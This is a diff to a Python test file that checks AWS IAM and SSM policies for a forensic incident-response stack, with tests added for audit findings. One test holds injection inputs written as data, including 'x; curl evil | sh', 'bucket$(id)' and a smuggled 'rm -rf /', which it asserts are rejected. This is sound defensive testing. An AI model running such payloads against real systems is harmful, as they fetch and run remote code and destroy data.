@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import ipaddress
+import json
 
 import pytest
 import yaml
@@ -173,7 +174,7 @@ def test_only_the_account_root_may_delete_evidence_or_weaken_its_retention(stack
     guard = sid(evidence, "DenyEvidenceDestructionExceptRoot")
     assert guard["Effect"] == "Deny" and guard["Principal"] == "*"
     assert all(grants(guard, action) for action in DESTRUCTIVE)
-    assert guard["Condition"] == {"StringNotEquals": {"aws:PrincipalArn": f"arn:aws:iam::{FORENSIC}:root"}}
+    assert guard["Condition"] == {"ArnNotEquals": {"aws:PrincipalArn": f"arn:aws:iam::{FORENSIC}:root"}}
     assert set(guard["Resource"]) == {EVIDENCE_ARN, f"{EVIDENCE_ARN}/*"}
 
 
@@ -436,7 +437,8 @@ def test_forensic_automation_role_can_do_its_job_and_no_more(stack):
     member_keys = sid(policy, "ReadMemberSnapshotKeys")
     assert member_keys["Resource"] == ["arn:aws:kms:*:*:key/*"]
     assert member_keys["Condition"] == {
-        "ForAnyValue:StringEquals": {"kms:ResourceAliases": naming.member_ebs_key_alias(PREFIX)}
+        "ForAnyValue:StringEquals": {"kms:ResourceAliases": naming.member_ebs_key_alias(PREFIX)},
+        "StringEquals": {"aws:ResourceOrgID": "${aws:PrincipalOrgID}"},
     }
     passing = sid(policy, "PassAnalysisRole")
     assert passing["Resource"] == [f"arn:aws:iam::{FORENSIC}:role/{naming.analysis_profile(PREFIX)}"]
@@ -453,7 +455,7 @@ def test_analysis_instances_read_evidence_and_write_only_findings(stack):
     attachment = one(stack, "aws:iam/rolePolicyAttachment:RolePolicyAttachment", "analysis")
     assert attachment.inputs["policyArn"].endswith("/AmazonSSMManagedInstanceCore")
     policy = role_policy(stack, "forensic-analysis-instance-role")
-    writes = [statement for statement in policy if grants(statement, "s3:PutObject")]
+    writes = [s for s in policy if grants(s, "s3:PutObject") and s["Effect"] == "Allow"]
     assert [statement["Resource"] for statement in writes] == [
         [f"{EVIDENCE_ARN}/*/analysis/*", f"{EVIDENCE_ARN}/*/report/*"]
     ]
@@ -551,3 +553,76 @@ def test_args_refuse_a_single_zone_and_a_vpc_too_small_for_its_subnets():
     with pytest.raises(ValueError, match="not an IPv4 network"):
         subnet_cidrs("10.77.0.0/33", 2)
     assert subnet_cidrs("10.77.0.0/16", 3) == ["10.77.0.0/20", "10.77.16.0/20", "10.77.32.0/20"]
+
+
+# --- issue 15, findings 4 and 6: what the audit found, each with the bound that fixes it ---------------
+
+
+def _analysis_allows(stack, action, resource, context=None):
+    from simulation.api_calls import evaluate
+
+    return evaluate([{"Statement": role_policy(stack, "forensic-analysis-instance-role")}], action, [resource], context)
+
+
+def test_the_examination_output_has_its_log_group_and_the_analysis_role_may_write_it(stack):
+    group = one(stack, "aws:cloudwatch/logGroup:LogGroup", "examination")
+    assert group.inputs["name"] == f"/{PREFIX}/irforensics/examination"
+    group_arn = f"arn:aws:logs:{REGION}:{FORENSIC}:log-group:/{PREFIX}/irforensics/examination"
+    stream = f"{group_arn}:log-stream:cmd/i-0/aws-runShellScript/stdout"
+    for action in ("logs:CreateLogStream", "logs:PutLogEvents"):
+        assert _analysis_allows(stack, action, stream).allowed, action
+    other = f"arn:aws:logs:{REGION}:{FORENSIC}:log-group:/aws/lambda/anything:log-stream:x"
+    assert not _analysis_allows(stack, "logs:PutLogEvents", other).allowed
+
+
+def test_findings_are_written_only_right_under_a_case(stack):
+    case = "333333333333-i-0123456789abcdef0-eu-west-1-1700000000"
+    assert _analysis_allows(stack, "s3:PutObject", f"{EVIDENCE_ARN}/{case}/analysis/timeline.csv").allowed
+    assert _analysis_allows(
+        stack, "s3:PutObject", f"{EVIDENCE_ARN}/{case}/analysis/volatility/linux.pslist.json"
+    ).allowed
+    assert _analysis_allows(stack, "s3:PutObject", f"{EVIDENCE_ARN}/{case}/report/report.html").allowed
+    # `*` crosses "/": these matched the old pattern and overwrote evidence-looking keys.
+    for key in (f"{case}/disk/analysis/vol-0.img", f"{case}/memory/report/i-0.lime", "a/b/analysis/x"):
+        assert not _analysis_allows(stack, "s3:PutObject", f"{EVIDENCE_ARN}/{key}").allowed, key
+
+
+def _automation_allows(stack, action, resources, context):
+    from simulation.api_calls import evaluate
+
+    return evaluate([{"Statement": role_policy(stack, "forensic-automation-role")}], action, resources, context)
+
+
+def test_examination_commands_run_only_the_project_document_on_instances_the_automation_launched(stack):
+    document = one(stack, "aws:ssm/document:Document", "examination")
+    assert document.inputs["name"] == naming.examination_document(PREFIX)
+    content = json.loads(document.inputs["content"])
+    assert all("allowedPattern" in p for p in content["parameters"].values())
+    own = f"arn:aws:ssm:{REGION}:{FORENSIC}:document/{naming.examination_document(PREFIX)}"
+    analysis = {"aws:ResourceTag/*": True, "aws:ResourceTag/irforensics:managed-by": "irforensics"}
+    other_instance = {"aws:ResourceTag/*": True, "aws:ResourceTag/Name": "image-builder"}
+    instance = f"arn:aws:ec2:{REGION}:{FORENSIC}:instance/i-0123456789abcdef0"
+    assert _automation_allows(stack, "ssm:SendCommand", [own], {}).allowed
+    assert _automation_allows(stack, "ssm:SendCommand", [instance], analysis).allowed
+    assert not _automation_allows(stack, "ssm:SendCommand", [instance], other_instance).allowed
+    shell = f"arn:aws:ssm:{REGION}::document/AWS-RunShellScript"
+    assert not _automation_allows(stack, "ssm:SendCommand", [shell], {}).allowed
+
+
+def test_examination_document_parameters_refuse_shell_text(stack):
+    import re
+
+    content = json.loads(one(stack, "aws:ssm/document:Document", "examination").inputs["content"])
+    patterns = {name: re.compile(p["allowedPattern"]) for name, p in content["parameters"].items()}
+    assert patterns["CaseId"].match("333333333333-i-0123456789abcdef0-eu-west-1-1700000000")
+    assert not patterns["CaseId"].match("x; curl evil | sh")
+    assert not patterns["Bucket"].match("bucket$(id)")
+    assert patterns["IncidentStart"].match("") and patterns["IncidentStart"].match("2024-06-01T00:00:00+00:00")
+    assert not patterns["IncidentEnd"].match('2024-06-01T00:00:00Z"; rm -rf /')
+
+
+def test_analysis_instances_start_only_from_images_this_account_owns(stack):
+    image = f"arn:aws:ec2:{REGION}::image/ami-0123456789abcdef0"
+    assert _automation_allows(stack, "ec2:RunInstances", [image], {"ec2:Owner": FORENSIC}).allowed
+    for owner in ("amazon", "aws-marketplace", "999999999999"):
+        assert not _automation_allows(stack, "ec2:RunInstances", [image], {"ec2:Owner": owner}).allowed, owner
